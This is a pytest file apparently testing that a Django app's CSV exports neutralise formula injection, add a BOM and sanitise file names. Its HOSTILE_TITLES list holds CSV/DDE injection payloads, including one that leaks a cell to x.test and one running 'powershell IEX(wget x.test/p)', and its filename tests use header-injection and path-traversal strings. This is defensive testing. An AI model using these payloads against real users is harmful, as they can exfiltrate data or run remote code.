"""Every CSV export is formula-safe, opens correctly in Excel (BOM) and is safely named.

The probe's reproduction: partners author dispute titles, and the disputes export wrote
``=HYPERLINK(…)``, ``+SUM(…)`` and ``@cmd…`` raw, with no BOM.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from tests.disputes.factories import make_dispute
from tests.scorecards.factories import MeasurementFactory, TargetFactory, kpi
from vendorhub.csv_export import csv_cell, csv_filename, is_formula

pytestmark = pytest.mark.django_db

HOSTILE_TITLES = [
    '=HYPERLINK("http://x.test/?leak="&A1,"Click for the invoice")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C powershell IEX(wget x.test/p)'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",  # full-width equals sign
]


def read_csv(response) -> tuple[bytes, list[list[str]]]:
    raw = b"".join(response.streaming_content)
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_partner_authored_formula_titles_are_neutralised_in_the_disputes_export(
    partner_a, vendor_a, manager, api_for, client_for
):
    for title in HOSTILE_TITLES[:5]:  # through the API, as a partner raises a dispute
        response = api_for(partner_a).post(
            "/api/v1/disputes/",
            {"vendor": vendor_a.slug, "type": "pricing", "title": title, "description": "x"},
            format="json",
        )
        assert response.status_code == 201, response.content
    for title in HOSTILE_TITLES[5:]:  # leading tab, CR, spaces: only a service keeps them
        make_dispute(vendor=vendor_a, by=manager, title=title)

    response = client_for(manager).get("/disputes/export.csv")
    raw, rows = read_csv(response)
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads it as UTF-8
    header, body = rows[0], rows[1:]
    titles = [row[header.index("title")] for row in body]
    assert sorted(titles) == sorted("'" + t for t in HOSTILE_TITLES)
    for row in body:
        for cell in row:
            assert not is_formula(cell), cell
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Cache-Control"] == "private, no-store"
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="disputes-')
    assert disposition.endswith('.csv"')


def test_figures_stay_numbers_in_the_disputes_export(vendor_a, manager, client_for):
    make_dispute(
        vendor=vendor_a,
        by=manager,
        type="pricing",
        title="Invoice 4711 over by 1,250.00",
        disputed_amount=Decimal("1250.00"),
        currency="EUR",
    )
    _raw, rows = read_csv(client_for(manager).get("/disputes/export.csv"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["disputed_amount"] == "1250.00"
    assert row["escalation_level"] == "0"
    assert row["title"] == "Invoice 4711 over by 1,250.00"


def test_dashboard_export_keeps_negative_scores_numeric(vendor_a, vendor_b, executive, client_for):
    nps = kpi("nps")
    for vendor, value in ((vendor_a, -12), (vendor_b, 35)):
        TargetFactory(vendor=vendor, kpi=nps, target=30, threshold=0)
        MeasurementFactory(
            vendor=vendor, kpi=nps, period_start=date(2025, 3, 3), value=value, volume=100
        )
    response = client_for(executive).get("/scorecards/dashboard/export.csv?period=2025-03")
    raw, rows = read_csv(response)
    assert raw.startswith(b"\xef\xbb\xbf")
    by_vendor = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert float(by_vendor["acme-contact"]["nps_actual"]) == -12.0  # a number, no quote
    assert float(by_vendor["borealis-cx"]["nps_actual"]) == 35.0
    assert response["Content-Disposition"] == 'attachment; filename="scorecards-2025-03.csv"'
    assert response["Cache-Control"] == "private, no-store"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("-5", "'-5"),  # text: we cannot know a person meant a number
        (-5, -5),
        (Decimal("-1.50"), Decimal("-1.50")),
        (-0.25, -0.25),
        (None, ""),
        (True, "yes"),
        (date(2026, 3, 1), "2026-03-01"),
        ("plain words", "plain words"),
        ("a=b", "a=b"),
    ],
)
def test_cells(value, written):
    assert csv_cell(value) == written


def test_file_names_are_reduced_to_safe_characters():
    assert csv_filename("disputes", date(2026, 3, 1)) == "disputes-2026-03-01.csv"
    assert csv_filename('evil"; filename=x.exe', "\r\n") == "evil-filename-x.exe.csv"
    assert csv_filename("../../etc/passwd") == "etc-passwd.csv"
